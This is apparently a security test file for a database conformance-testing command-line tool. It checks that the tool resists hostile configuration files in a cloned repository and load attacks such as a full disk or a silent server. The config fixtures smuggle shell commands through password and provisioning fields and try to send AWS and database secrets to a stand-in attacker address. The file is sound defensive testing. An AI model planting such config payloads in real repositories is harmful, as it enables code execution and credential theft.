// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the variables of a file look like that
/** Attacks by files that somebody else wrote, and on the end of a run: it ends, whatever happens. */
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { zstdCompressSync } from 'node:zlib';
import { realClock } from '../../harness/http/clock.ts';
import { startReference } from '../../harness/reference/reference.ts';
import { counting, mute } from '../../harness/testing/cli/servers.ts';
import { night } from '../../harness/testing/reports/sample.ts';
import { openHistory } from '../../reports/history/database.ts';
import { insertRun } from '../../reports/history/runs.ts';
import { type Attack, gained, runProgram, startLimited, startTarget } from './trials.ts';

/** Files of a cloned repository, in which a user starts a run on a server of the attacker. */
const configurations: readonly { readonly what: string; readonly file: string; readonly text: string }[] = [
  {
    what: 'is a program',
    file: 'crdb-conformance.config.ts',
    text: "import { writeFileSync } from 'node:fs'; writeFileSync('ran', ''); export default {};",
  },
  {
    what: 'has a password command',
    file: 'crdb-conformance.config.yaml',
    text: 'passwordFrom: "cmd:touch ran"',
  },
  {
    what: 'has a command that makes tasks',
    file: 'crdb-conformance.config.yaml',
    text: 'provision: command\ncommand: touch ran;',
  },
  {
    what: 'puts a secret of the environment into the address',
    file: 'crdb-conformance.config.yaml',
    text: 'target: "ATTACKER/${AWS_SECRET}"',
  },
  {
    what: 'puts the password into the address',
    file: 'crdb-conformance.config.yaml',
    text: 'target: "ATTACKER/${CRDB_PASSWORD}"',
  },
  { what: 'names a proxy', file: 'crdb-conformance.config.yaml', text: 'proxy: ATTACKER' },
  {
    what: 'adds a node to the user’s target',
    file: 'crdb-conformance.config.yaml',
    text: 'node: [ATTACKER]',
  },
];

const byConfiguration = configurations.map(
  ({ what, file, text }): Attack => ({
    name: `the configuration file of a cloned repository ${what}`,
    async attempt(folder) {
      await using attacker = await counting((response) => response.writeHead(401).end());
      await using target = await startReference({ clock: realClock() });
      writeFileSync(join(folder, file), text.replace('ATTACKER', attacker.url));
      const env = { CRDB_USER: target.user, CRDB_PASSWORD: target.password, AWS_SECRET: 'aws-secret' };
      const args = text.startsWith('target') ? [] : ['--target', target.url];
      const { code } = await runProgram(['run', ...args, '--clause', 'list.status.200'], env, folder);
      return [
        ...gained(existsSync(join(folder, 'ran')), 'the attacker’s code ran'),
        ...gained(attacker.requests.length > 0, `the attacker got ${attacker.requests.length} requests`),
        ...gained(code !== 2, `exit code ${code}, expected 2`),
      ];
    },
  }),
);

const byLoad: readonly Attack[] = [
  {
    name: 'the disk is full in the middle of a run',
    async attempt(folder) {
      await using target = await startTarget();
      const args = ['run', '--target', target.url, '--user', target.user, '--out', folder];
      const child = startLimited(args, target.password, 200);
      const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
      return [
        ...gained(code !== 3, `exit code ${code}, expected 3`),
        ...gained(target.tasks.size > 0, `${target.tasks.size} tasks are left`),
      ];
    },
  },
  {
    name: 'a target accepts the connection and stays silent',
    async attempt(folder) {
      await using silent = await mute();
      const fromMs = performance.now();
      const target = `http://127.0.0.1:${silent.port}`;
      const args = ['run', '--target', target, '--user', 'x', '--timeout-s', '5', '--out', folder];
      const { code, err } = await runProgram(args, { CRDB_PASSWORD: 'x' });
      const tookS = Math.round((performance.now() - fromMs) / 1000);
      return [
        ...gained(code !== 3 || !err.includes('sent no response'), `exit code ${code}: ${err}`),
        ...gained(tookS > 12, `it took ${tookS} s`), // three timeouts would be 15 s and more
      ];
    },
  },
  {
    name: 'a page of the docs is made of emphasis that never closes',
    async attempt(folder) {
      const page = join(folder, 'page.md');
      writeFileSync(page, `# Title\n\n${'*a_'.repeat(80_000)}\n`);
      const { code, err } = await runProgram(['spec', 'check', '--docs', page]);
      return gained(
        code !== 2 || !err.includes('a paragraph has'),
        `exit code ${code}: ${err.slice(0, 200)}`,
      );
    },
  },
  {
    name: 'a report in a history becomes more than a gigabyte',
    async attempt(folder) {
      const file = join(folder, 'history.db');
      {
        using history = openHistory(file);
        history.write((db) => {
          insertRun(db, night(1));
          db.prepare('UPDATE runs SET report = ?').run(zstdCompressSync(Buffer.alloc(1.5 * 2 ** 30)));
        });
      }
      const args = ['site', 'build', '--history', file, '--out', join(folder, 'site')];
      const { code, err } = await runProgram(args);
      return gained(
        code !== 2 || !err.includes('can’t be read from the history'),
        `exit code ${code}: ${err.slice(0, 200)}`,
      );
    },
  },
];

export const fileAttacks: readonly Attack[] = [...byConfiguration, ...byLoad];
